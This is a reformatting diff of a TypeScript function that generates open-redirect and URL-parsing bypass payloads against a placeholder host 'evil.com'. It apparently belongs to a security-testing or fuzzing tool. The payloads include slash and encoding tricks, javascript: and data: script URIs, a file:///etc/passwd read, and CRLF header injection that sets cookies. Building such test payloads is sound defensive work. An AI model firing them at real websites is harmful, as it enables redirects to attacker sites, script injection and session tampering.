@@ -10,10 +10,11 @@ export function generatePayloads(good: string, evil = 'evil.com'): string[] {
   const out = new Set<string>()
   const seps = ['//', '///', '////', '/\\', '\\/', '\\\\', '/%2F', '%2F%2F', '%2F%5C', '%5C%5C', '/%5C', '%5C/']
   const spacers = ['', '\t', '\n', '\r', '\v', ' ', '%09', '%0a', '%0d', '%0b', '%20', '%00']
-  for (const sep of seps) for (const sp of spacers) {
-    out.add(`${sep[0]}${sp}${sep.slice(1)}${evil}`)
-    out.add(`${sep}${sp}${evil}/path`)
-  }
+  for (const sep of seps)
+    for (const sp of spacers) {
+      out.add(`${sep[0]}${sp}${sep.slice(1)}${evil}`)
+      out.add(`${sep}${sp}${evil}/path`)
+    }
   for (const prefix of ['/./', '/../', '/.%2e/', '/%2e%2e/', '/./\\', '/../\\', '/.\\', '/..\\']) {
     out.add(`${prefix}${evil}`)
     out.add(`${prefix}/${evil}`)
@@ -34,7 +35,21 @@ export function generatePayloads(good: string, evil = 'evil.com'): string[] {
     out.add(`${scheme}//${good}%2F@${evil}/`)
     out.add(`${scheme}//${good}%5C@${evil}/`)
   }
-  for (const js of ['javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java%09script:alert(1)', ' javascript:alert(1)', '%20javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'DATA:text/html;base64,PHNjcmlwdD4=', 'vbscript:msgbox(1)', 'file:///etc/passwd', 'ftp://evil.com/', '//javascript:alert(1)']) {
+  for (const js of [
+    'javascript:alert(1)',
+    'JAVASCRIPT:alert(1)',
+    'JaVaScRiPt:alert(1)',
+    'java\tscript:alert(1)',
+    'java%09script:alert(1)',
+    ' javascript:alert(1)',
+    '%20javascript:alert(1)',
+    'data:text/html,<script>alert(1)</script>',
+    'DATA:text/html;base64,PHNjcmlwdD4=',
+    'vbscript:msgbox(1)',
+    'file:///etc/passwd',
+    'ftp://evil.com/',
+    '//javascript:alert(1)',
+  ]) {
     out.add(js)
   }
   for (const crlf of ['%0d%0a', '\r\n', '%0D%0A', '%E5%98%8A%E5%98%8D']) {
@@ -42,7 +57,20 @@ export function generatePayloads(good: string, evil = 'evil.com'): string[] {
     out.add(`/path${crlf}Set-Cookie:%20x=1`)
     out.add(`https://${good}/${crlf}Location:https://${evil}`)
   }
-  for (const enc of ['%2f%2fevil.com', '%252f%252fevil.com', '/%252f%252fevil.com', '%2F%2F%65%76%69%6C%2E%63%6F%6D', '/%2e%2e/%2e%2e/%2fevil.com', '/%09/evil.com', '/%5cevil.com', '/.evil.com', '.evil.com', '@evil.com', ':evil.com', '/:evil.com']) {
+  for (const enc of [
+    '%2f%2fevil.com',
+    '%252f%252fevil.com',
+    '/%252f%252fevil.com',
+    '%2F%2F%65%76%69%6C%2E%63%6F%6D',
+    '/%2e%2e/%2e%2e/%2fevil.com',
+    '/%09/evil.com',
+    '/%5cevil.com',
+    '/.evil.com',
+    '.evil.com',
+    '@evil.com',
+    ':evil.com',
+    '/:evil.com',
+  ]) {
     out.add(enc.replace('evil.com', evil))
   }
   out.add('/' + 'a'.repeat(17_000))
